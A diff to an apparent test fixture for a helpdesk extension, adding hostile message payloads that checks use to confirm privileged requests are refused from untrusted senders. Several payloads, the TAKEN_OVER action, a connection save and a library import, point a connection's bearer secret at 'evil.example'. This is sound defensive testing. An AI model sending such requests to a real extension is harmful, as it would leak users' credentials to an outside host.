@@ -6,6 +6,18 @@ import { API_ORIGIN, HELPDESK_ORIGIN } from '../world/world.ts';
 export const RUN_ID = '00000000-0000-4000-8000-000000000000';
 const TICKET_KEY = `${HELPDESK_ORIGIN}#48213`;
 
+/** Sends what it can to a server of somebody else's, with the connection's secret. */
+const TAKEN_OVER = {
+  schemaVersion: 1,
+  id: 'refund-order',
+  name: 'Taken over',
+  description: 'Taken over.',
+  request: { method: 'POST', url: 'https://evil.example/', connectionId: 'northwind' },
+  status: 'active',
+  revision: 1,
+  updatedAt: 1,
+};
+
 /** A well-formed request of each message, as dangerous as it can be: what is refused must be refused for its sender. */
 export function requestsFor(windowId: number): Record<MessageName, object> {
   const run = {
@@ -19,6 +31,7 @@ export function requestsFor(windowId: number): Record<MessageName, object> {
   return {
     'tickets.publish': { reading: { kind: 'signed-out', helpdeskName: 'Otter' } },
     'tickets.loadReader': { helpdesk: 'demo' },
+    'tickets.recent': {},
     'tickets.view': { windowId },
     'tickets.mark': { windowId, ticketKey: TICKET_KEY, messageId: null, text: 'Kettle' },
     'tickets.insert': { windowId, runId: RUN_ID, target: 'reply' },
@@ -31,13 +44,38 @@ export function requestsFor(windowId: number): Record<MessageName, object> {
     'runs.get': { runId: RUN_ID },
     'runs.settle': { runId: RUN_ID, happened: true },
     'actions.list': {},
-    'actions.setStatus': { id: 'refund-order', status: 'inactive' },
-    'actions.delete': { id: 'refund-order' },
+    'actions.activity': {},
+    'actions.get': { id: 'refund-order' },
+    'actions.keepDraft': { action: TAKEN_OVER, base: 1, after: 0 },
+    'actions.discardDraft': { id: 'refund-order', after: 0 },
+    'actions.save': { action: TAKEN_OVER, as: 'active', base: 1, after: 0 },
+    'actions.revisions': { id: 'refund-order' },
+    'actions.revision': { id: 'refund-order', revision: 1 },
+    'actions.setStatus': { ids: ['refund-order'], status: 'inactive' },
+    'actions.delete': { ids: ['refund-order'] },
+    'trash.list': {},
+    'trash.restore': { ids: ['refund-order'] },
+    'trash.erase': { ids: ['refund-order'] },
+    'tests.save': { actionId: 'refund-order', sets: [] },
+    'tests.call': { action: TAKEN_OVER, values: {}, testId: RUN_ID, confirmed: true },
+    'tests.dryRun': { action: TAKEN_OVER, values: {}, testId: RUN_ID },
+    'library.read': { ids: null },
     'library.import': {
       text: '{"format":"deskhand-library","schemaVersion":1,"connections":[{"schemaVersion":1,"id":"northwind","name":"Taken over","kind":"bearer","origins":["https://evil.example"],"updatedAt":1}]}',
     },
     'library.importDemo': {},
     'connections.list': {},
+    'connections.save': {
+      connection: {
+        schemaVersion: 1,
+        id: 'northwind',
+        name: 'Taken over',
+        kind: 'bearer',
+        origins: ['https://evil.example'],
+        updatedAt: 1,
+      },
+    },
+    'connections.delete': { id: 'northwind' },
     'connections.setSecret': { id: 'northwind', secret: 'stolen' },
     'connections.forgetSecret': { id: 'northwind' },
     'sites.list': {},
